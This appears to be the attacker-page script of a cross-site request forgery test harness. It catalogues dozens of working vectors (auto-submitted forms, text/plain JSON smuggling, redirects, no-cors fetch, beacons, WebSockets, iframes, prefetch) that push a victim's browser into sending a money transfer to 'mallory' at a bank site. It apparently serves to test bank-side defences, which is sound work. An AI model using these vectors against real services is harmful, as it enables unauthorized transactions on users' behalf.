'use strict';

// Every way known here in which a page can make a browser send a request to another site. A page carries out one of them, for
// one or more targets one after the other; whatever can be said of the outcome, the bank has to say.

const parameters = JSON.parse(document.getElementById('parameters').textContent);
const { attacker, bank, play } = parameters;
const PATIENCE_MS = 1500;

const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

// ---- what is asked for

const query = (target, more = '') => '?play=' + play + more;
const payAt = (target, more = '') => bank + target.path + '/transfers' + query(target, more);
// A token that the attacker has goes along; it is genuine, and not the victim's.
const wishes = (target) => ({ to: 'mallory', amount: target.amount, ...target.token && { _csrf: target.token } });
const fields = (target) => new URLSearchParams(wishes(target));
const asJson = (target) => JSON.stringify({ to: 'mallory', amount: target.amount });
const getAt = (target) => payAt(target) + '&' + fields(target);

function multipart(target) {
  const data = new FormData();
  data.append('to', 'mallory');
  data.append('amount', target.amount);
  return data;
}

function throughAttacker(status, to) {
  return attacker + '/redirect?status=' + status + '&to=' + encodeURIComponent(to);
}

// ---- forms

function form(target, attributes = {}, names = wishes(target), doc = document) {
  const element = doc.createElement('form');
  element.method = 'post';
  element.action = payAt(target);
  for (const [name, value] of Object.entries(names)) {
    const input = doc.createElement('input');
    input.type = 'hidden';
    input.name = name;
    input.value = value;
    element.append(input);
  }
  for (const [name, value] of Object.entries(attributes)) {
    element.setAttribute(name, value);
  }
  doc.body.append(element);
  return element;
}

const submit = (...given) => form(...given).submit();

/** What a user clicks on: a button of the form, or a link. */
function clickable(element) {
  if (element instanceof HTMLFormElement) {
    const button = document.createElement('button');
    button.id = 'go';
    button.textContent = 'Show me the kittens';
    element.append(button);
    return;
  }
  element.id = 'go';
  element.textContent = 'Show me the kittens';
  document.body.append(element);
}

function link(href, attributes = {}) {
  const element = document.createElement('a');
  element.href = href;
  for (const [name, value] of Object.entries(attributes)) {
    element.setAttribute(name, value);
  }
  return element;
}

/** The text of a page that sends the form by itself, or when it is clicked anywhere. */
function formPage(target, attributes = '', click = false) {
  const inputs = '<input type=hidden name=to value=mallory><input type=hidden name=amount value=' + target.amount + '>';
  return '<!DOCTYPE html><body><form id=f method=post action="' + payAt(target).replaceAll('&', '&amp;') + '" ' + attributes + '>'
    + inputs + (click ? '<button style="position:fixed;inset:0;width:100%;height:100%">Kittens</button>' : '') + '</form>'
    + (click ? '' : '<script>document.getElementById("f").submit()</scr' + 'ipt>');
}

function frame(attributes) {
  const element = document.createElement('iframe');
  Object.assign(element.style, { width: '300px', height: '200px' });
  for (const [name, value] of Object.entries(attributes)) {
    element.setAttribute(name, value);
  }
  document.body.append(element);
  return element;
}

/** This very page with another vector, for a frame. */
function inner(vector, target) {
  const given = { ...parameters, vector, targets: [target], inner: true };
  return attacker + '/vector?parameters=' + encodeURIComponent(JSON.stringify(given));
}

// ---- requests of scripts

const send = (url, options) => fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', ...options });

function load(name, property, url, attributes = {}) {
  return new Promise((resolve) => {
    const element = document.createElement(name);
    element.onload = element.onerror = resolve;
    for (const [attribute, value] of Object.entries(attributes)) {
      element.setAttribute(attribute, value);
    }
    element[property] = url;
    document.body.append(element);
  });
}

function xhr(target, type, body) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open('POST', payAt(target));
    request.withCredentials = true;
    if (type !== null) {
      request.setRequestHeader('Content-Type', type);
    }
    request.onloadend = resolve;
    request.send(body);
  });
}

const typed = (target, type) => new Blob([asJson(target)], { type });

const vectors = {
  // ---- forms that take the window along; one target each
  'form-post-urlencoded': (t) => submit(t),
  'form-post-multipart': (t) => submit(t, { enctype: 'multipart/form-data' }),
  'form-post-textplain': (t) => submit(t, { enctype: 'text/plain' },
    { ['{"to":"mallory","amount":"' + t.amount + '","filler":"']: '"}' }),
  'form-post-click': (t) => clickable(form(t)),
  'form-post-rel-noreferrer': (t) => submit(t, { rel: 'noreferrer' }),
  'form-post-accept-charset': (t) => submit(t, { 'accept-charset': 'utf-16' }),
  'form-post-page-no-referrer': (t) => submit(t),
  'form-post-page-same-origin-policy': (t) => submit(t),
  'form-post-page-origin-policy': (t) => submit(t),
  'form-post-page-unsafe-url': (t) => submit(t),
  'form-post-sandbox-iframe-top': (t) => frame({
    sandbox: 'allow-scripts allow-forms allow-top-navigation', src: inner('form-post-top', t) }),
  'form-post-top': (t) => submit(t, { target: '_top' }),
  'form-post-data-iframe-top': (t) => {
    frame({ src: 'data:text/html,' + encodeURIComponent(formPage(t, 'target="_top"', true)) }).id = 'go';
  },
  'form-post-blank-target': (t) => clickable(form(t, { target: '_blank' })),
  'form-post-blank-rel-noopener': (t) => clickable(form(t, { target: '_blank', rel: 'noopener' })),
  'form-post-blank-noopener': (t) => clickable(form(t, { target: '_blank', rel: 'noopener noreferrer' })),
  'form-post-named-window': (t) => {
    const button = document.createElement('button');
    button.onclick = () => {
      window.open('about:blank', 'kittens');
      submit(t, { target: 'kittens' });
    };
    clickable(button);
  },
  'form-post-about-blank-popup': (t) => {
    const button = document.createElement('button');
    button.onclick = () => {
      const popup = window.open('about:blank');
      form(t, {}, undefined, popup.document).submit();
    };
    clickable(button);
  },
  'form-get': (t) => submit(t, { method: 'get' }, { play, to: 'mallory', amount: t.amount }),
  'form-post-method-override': (t) => submit(t, {}, { _method: 'GET', to: 'mallory', amount: t.amount }),
  'form-307-to-bank': (t) => submit(t, { action: throughAttacker(307, payAt(t)) }),
  'form-308-to-bank': (t) => submit(t, { action: throughAttacker(308, payAt(t)) }),
  'form-302-to-bank': (t) => submit(t, { action: throughAttacker(302, getAt(t)) }),
  'form-307-bank-out-and-back': (t) => submit(t, { action: bank + '/probe/out?to=' + encodeURIComponent(payAt(t)) }),
  'login-form': (t) => submit(t, { action: bank + t.path + '/login' + query(t) },
    { user: 'mallory', password: 'mallory' }),
  'form-post-answered-by-selfreload': (t) => submit(t, { action: payAt(t, '&reload=1') }),
  'form-post-click-answered-by-selfreload': (t) => clickable(form(t, { action: payAt(t, '&reload=1') })),
  'form-post-then-user-reload': (t) => clickable(form(t)),
  'form-post-then-back-forward': (t) => clickable(form(t)),

  // ---- links and the like
  'link-click-get': (t) => clickable(link(getAt(t))),
  'link-click-noreferrer': (t) => clickable(link(getAt(t), { rel: 'noreferrer' })),
  'link-js-click': (t) => {
    const element = link(getAt(t));
    document.body.append(element);
    element.click();
  },
  'link-posing-as-post': (t) => clickable(link(getAt(t) + '&_method=POST')),
  'location-assign-get': (t) => location.assign(getAt(t)),
  'meta-refresh-get': (t) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = '0;url=' + getAt(t);
    document.head.append(meta);
  },
  'window-open-get': (t) => {
    const button = document.createElement('button');
    button.onclick = () => window.open(getAt(t));
    clickable(button);
  },
  'a-ping': (t) => clickable(link('#', { ping: payAt(t) })),

  // ---- frames
  'form-post-sandbox-iframe': (t) => frame({ sandbox: 'allow-scripts allow-forms', src: inner('form-post-urlencoded', t) }),
  'form-post-srcdoc-iframe': (t) => frame({ srcdoc: formPage(t) }),
  'form-post-data-iframe': (t) => frame({ src: 'data:text/html,' + encodeURIComponent(formPage(t)) }),
  'form-post-blob-iframe': (t) => frame({ src: URL.createObjectURL(new Blob([formPage(t)], { type: 'text/html' })) }),
  'form-post-iframe-target': (t) => {
    frame({ name: 'kittens' + t.id });
    submit(t, { target: 'kittens' + t.id });
  },
  'iframe-get': (t) => frame({ src: getAt(t) }),
  'framed-bank-page': (t) => frame({ src: bank + t.path + '/transfers/new' + query(t) }),
  'object-get': (t) => load('object', 'data', getAt(t)),

  // ---- fetch
  'fetch-nocors-post-text': (t) => send(payAt(t), { body: asJson(t) }),
  'fetch-nocors-post-urlencoded': (t) => send(payAt(t), { body: fields(t) }),
  'fetch-nocors-post-multipart': (t) => send(payAt(t), { body: multipart(t) }),
  'fetch-nocors-post-blob-no-type': (t) => send(payAt(t), { body: new Blob([asJson(t)]) }),
  'fetch-nocors-post-empty': (t) => send(payAt(t), {}),
  'fetch-nocors-post-textplain-json-param': (t) => send(payAt(t),
    { body: asJson(t), headers: { 'Content-Type': 'text/plain; application/json' } }),
  'fetch-nocors-post-no-referrer': (t) => send(payAt(t), { body: asJson(t), referrerPolicy: 'no-referrer' }),
  'fetch-nocors-post-keepalive': (t) => send(payAt(t), { body: asJson(t), keepalive: true }),
  'fetch-nocors-get': (t) => send(getAt(t), { method: 'GET' }),
  'fetch-nocors-head': (t) => send(getAt(t), { method: 'HEAD' }),
  'fetch-cors-get': (t) => send(getAt(t), { method: 'GET', mode: 'cors' }),
  'fetch-cors-post-urlencoded': (t) => send(payAt(t), { mode: 'cors', body: fields(t) }),
  'fetch-cors-post-no-referrer': (t) => send(payAt(t), { mode: 'cors', body: fields(t), referrerPolicy: 'no-referrer' }),
  'fetch-cors-post-json-denied': (t) => send(payAt(t),
    { mode: 'cors', body: asJson(t), headers: { 'Content-Type': 'application/json' } }),
  'fetch-cors-post-json-allowed': (t) => send(payAt(t, '&cors=1'),
    { mode: 'cors', body: asJson(t), headers: { 'Content-Type': 'application/json' } }),
  'fetch-cors-put-denied': (t) => send(payAt(t), { method: 'PUT', mode: 'cors', body: asJson(t) }),
  'fetch-cors-put-allowed': (t) => send(payAt(t, '&cors=1'), { method: 'PUT', mode: 'cors', body: asJson(t) }),
  'fetch-cors-delete-denied': (t) => send(bank + t.path + '/transfers/' + t.transfer + query(t),
    { method: 'DELETE', mode: 'cors' }),
  'fetch-cors-delete-allowed': (t) => send(bank + t.path + '/transfers/' + t.transfer + query(t, '&cors=1'),
    { method: 'DELETE', mode: 'cors' }),
  'fetch-nocors-307-to-bank': (t) => send(throughAttacker(307, payAt(t)), { body: asJson(t) }),
  'fetch-cors-307-to-bank': (t) => send(throughAttacker(307, payAt(t)), { mode: 'cors', body: asJson(t) }),
  'fetch-nocors-post-sandbox-iframe': (t) => frame({ sandbox: 'allow-scripts', src: inner('fetch-nocors-post-text', t) }),
  'fetch-cors-post-sandbox-iframe': (t) => frame({ sandbox: 'allow-scripts', src: inner('fetch-cors-post-urlencoded', t) }),
  'fetchlater-post': (t) => {
    if (window.fetchLater) {
      window.fetchLater(payAt(t), { method: 'POST', body: asJson(t), credentials: 'include', activateAfter: 0 });
    }
  },
  'worker-fetch-nocors-post': (t) => new Promise((resolve) => {
    const text = 'fetch(' + JSON.stringify(payAt(t)) + ', {method: "POST", mode: "no-cors", credentials: "include", body: '
      + JSON.stringify(asJson(t)) + '}).then(() => postMessage(0), () => postMessage(0))';
    const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
    worker.onmessage = worker.onerror = resolve;
  }),

  // ---- XMLHttpRequest, sendBeacon, WebSocket, EventSource
  'xhr-post-withcredentials': (t) => xhr(t, null, fields(t)),
  'xhr-post-plain': (t) => xhr(t, 'text/plain', asJson(t)),
  'beacon-text': (t) => navigator.sendBeacon(payAt(t), asJson(t)),
  'beacon-urlencoded': (t) => navigator.sendBeacon(payAt(t), fields(t)),
  'beacon-formdata': (t) => navigator.sendBeacon(payAt(t), multipart(t)),
  'beacon-arraybuffer': (t) => navigator.sendBeacon(payAt(t), new TextEncoder().encode(asJson(t)).buffer),
  'beacon-page-no-referrer': (t) => navigator.sendBeacon(payAt(t), asJson(t)),
  'beacon-blob-json-denied': (t) => navigator.sendBeacon(payAt(t), typed(t, 'application/json')),
  'beacon-blob-json-allowed': (t) => navigator.sendBeacon(payAt(t, '&cors=1'), typed(t, 'application/json')),
  'websocket': (t) => new Promise((resolve) => {
    const socket = new WebSocket(bank.replace('http', 'ws') + t.path + '/live' + query(t));
    socket.onopen = () => socket.send('transfer mallory ' + t.amount);
    socket.onclose = socket.onerror = resolve;
    socket.onmessage = (message) => {
      if ('amount' in JSON.parse(message.data)) {
        socket.close();
      }
    };
  }),
  'eventsource': (t) => new Promise((resolve) => {
    const source = new EventSource(getAt(t), { withCredentials: true });
    source.onopen = source.onerror = () => {
      source.close();
      resolve();
    };
  }),

  // ---- elements
  'img-get': (t) => load('img', 'src', getAt(t)),
  'img-get-no-referrer': (t) => load('img', 'src', getAt(t), { referrerpolicy: 'no-referrer' }),
  'img-crossorigin-get': (t) => load('img', 'src', getAt(t), { crossorigin: 'use-credentials' }),
  'script-get': (t) => load('script', 'src', getAt(t)),
  'css-get': (t) => load('link', 'href', getAt(t), { rel: 'stylesheet' }),
  'video-get': (t) => load('video', 'src', getAt(t)),
  'link-prefetch': (t) => {
    // Not every engine says that it is through.
    load('link', 'href', getAt(t), { rel: 'prefetch' });
  },
  'speculation-prefetch': (t) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [getAt(t)], eagerness: 'immediate' }] });
    document.head.append(script);
  },
  // The page's policy sends the report as soon as this picture is refused.
  'csp-report': (t) => t === parameters.targets[0] && load('img', 'src', attacker + '/kitten.png'),
};

async function carryOut() {
  for (const target of parameters.targets) {
    try {
      await Promise.race([vectors[parameters.vector](target), pause(PATIENCE_MS)]);
    } catch (unreadable) {
      // The answer is not for this page's eyes.
    }
  }
  if (!parameters.inner) {
    fetch(attacker + '/done?play=' + play, { mode: 'no-cors' }).catch(() => {});
  }
}

if (document.readyState === 'complete') {
  carryOut();
} else {
  window.addEventListener('load', carryOut);
}
